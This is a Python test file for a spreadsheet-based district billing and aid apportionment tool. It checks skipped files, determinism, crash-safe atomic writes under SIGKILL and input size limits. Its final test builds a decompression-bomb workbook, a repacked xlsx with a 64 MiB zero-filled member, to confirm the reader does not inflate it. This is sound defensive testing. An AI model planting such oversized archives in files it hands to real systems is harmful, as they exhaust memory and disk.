def test_csv_beside_a_job_is_skipped_with_a_warning(tmp_path):
    folder = tmp_path / "inputs"
    folder.mkdir()
    C.write(folder / "job.xlsx")
    (folder / "notes.csv").write_text("a,b\n")
    batch = run_batch([folder], tmp_path / "out", jobs=1)
    assert batch.exit_code == 0
    [warning] = [i for i in batch.log.issues if i.code == "skipped-file"]
    assert warning.file.endswith("notes.csv") and "xlsx" in warning.message


def test_header_within_first_rows_is_valid(tmp_path):
    sheets = C.valid_sheets()
    sheets["Participation"] = [["Participation for 2026-27"], [None], [None]] + sheets["Participation"]
    _run_ok(C.write(tmp_path / "job.xlsx", sheets), tmp_path / "out")


# --- determinism --------------------------------------------------------------------------------

def _tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_two_runs_are_byte_identical(tmp_path):
    path = C.write(tmp_path / "job.xlsx")
    first = _tree(_run_ok(path, tmp_path / "one"))
    second = _tree(_run_ok(path, tmp_path / "two"))
    assert first == second


def _values(book_path: Path) -> dict:
    book = openpyxl.load_workbook(book_path)
    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book.worksheets}


def test_shuffled_rows_change_no_output(tmp_path):
    sheets = C.valid_sheets()
    shuffled = C.valid_sheets()
    rng = random.Random(8)
    for name in ("Districts", "Participation", "Services", "PD Attendance"):
        body = shuffled[name][1:]
        rng.shuffle(body)
        shuffled[name] = [shuffled[name][0]] + body
    assert shuffled["Districts"] != sheets["Districts"]
    a = _run_ok(C.write(tmp_path / "a.xlsx", sheets), tmp_path / "one")
    b = _run_ok(C.write(tmp_path / "b.xlsx", shuffled), tmp_path / "two")
    for name in ("billing.csv", "aid.csv"):
        assert (a / name).read_bytes() == (b / name).read_bytes()
    statements = sorted(p.name for p in (a / "districts").glob("*.xlsx"))
    assert sorted(p.name for p in (a / "districts").iterdir()) == sorted(p.name for p in (b / "districts").iterdir())
    for name in statements:
        assert _values(a / "districts" / name) == _values(b / "districts" / name)
        json_name = name.replace(".xlsx", ".json")
        assert (a / "districts" / json_name).read_bytes() == (b / "districts" / json_name).read_bytes()


# --- a run killed mid-write -------------------------------------------------------------------------

DRIVER = """
import os, sys, time
from pathlib import Path
from apportion.writers import atomic
real = atomic.make_durable
def slow(staged, files):  # the writer, slowed: the staged outputs wait before they are synced and swapped in
    Path(sys.argv[3]).touch()
    time.sleep(30)
    real(staged, files)
atomic.make_durable = slow
from apportion.batch import run_batch
run_batch([Path(sys.argv[1])], Path(sys.argv[2]), jobs=1)
"""


def test_sigkill_mid_write_keeps_previous_outputs(tmp_path):
    path = C.write(tmp_path / "job.xlsx")
    out = tmp_path / "out"
    folder = _run_ok(path, out)
    previous = _tree(folder)
    C.write(path, C.variant(Administrative_budget=2_600_000))  # the next run writes different outputs
    started = tmp_path / "writing"
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parents[1]))
    child = subprocess.Popen([sys.executable, "-c", DRIVER, str(path), str(out), str(started)], env=env)
    try:
        deadline = time.monotonic() + 30
        while not started.exists():
            assert child.poll() is None and time.monotonic() < deadline, "the run never started writing"
            time.sleep(0.02)
        time.sleep(0.5)
        child.send_signal(signal.SIGKILL)
    finally:
        child.wait(timeout=30)
    assert child.returncode == -signal.SIGKILL
    assert _tree(folder) == previous  # the final folder still holds the complete previous outputs
    visible = [p.name for p in out.iterdir() if not p.name.startswith(".")]
    assert visible == [folder.name]  # any partial files sit in a hidden temporary folder only
    recovered = _run_ok(path, out)  # the next run recovers and replaces them
    assert recovered == folder and _tree(folder) != previous
    assert [p.name for p in out.iterdir() if not p.name.startswith(".")] == [folder.name]


def test_limits_are_configurable_with_clear_messages(tmp_path):
    path = C.write(tmp_path / "job.xlsx")
    for limits, code, words in ((Limits(max_file_bytes=4096), "file-too-large", "4,096 bytes"),
                                (Limits(max_rows=10), "too-many-rows", "10"),
                                (Limits(max_cells=40), "sheet-too-large", "40 cells")):
        batch = run_batch([path], tmp_path / code, jobs=1, write=False, limits=limits)
        [issue] = [i for i in batch.outcomes[0].issues if i.severity == "error"]
        assert issue.code == code and words in issue.message and issue.found
    assert run_batch([path], tmp_path / "default", jobs=1, write=False).exit_code == 0


def test_sheet_names_never_inflate_a_bomb(tmp_path):
    """Finding jobs in a folder reads only the small workbook part of each file."""
    from apportion.readers.book import sheet_names
    src = C.write(tmp_path / "src.xlsx")
    bomb = C.repack(src, tmp_path / "bomb.xlsx", extra={"xl/media/huge.bin": b"\0" * (64 * 2**20)})
    assert zipfile.ZipFile(bomb).getinfo("xl/media/huge.bin").file_size == 64 * 2**20
    assert "BOCES" in sheet_names(bomb)
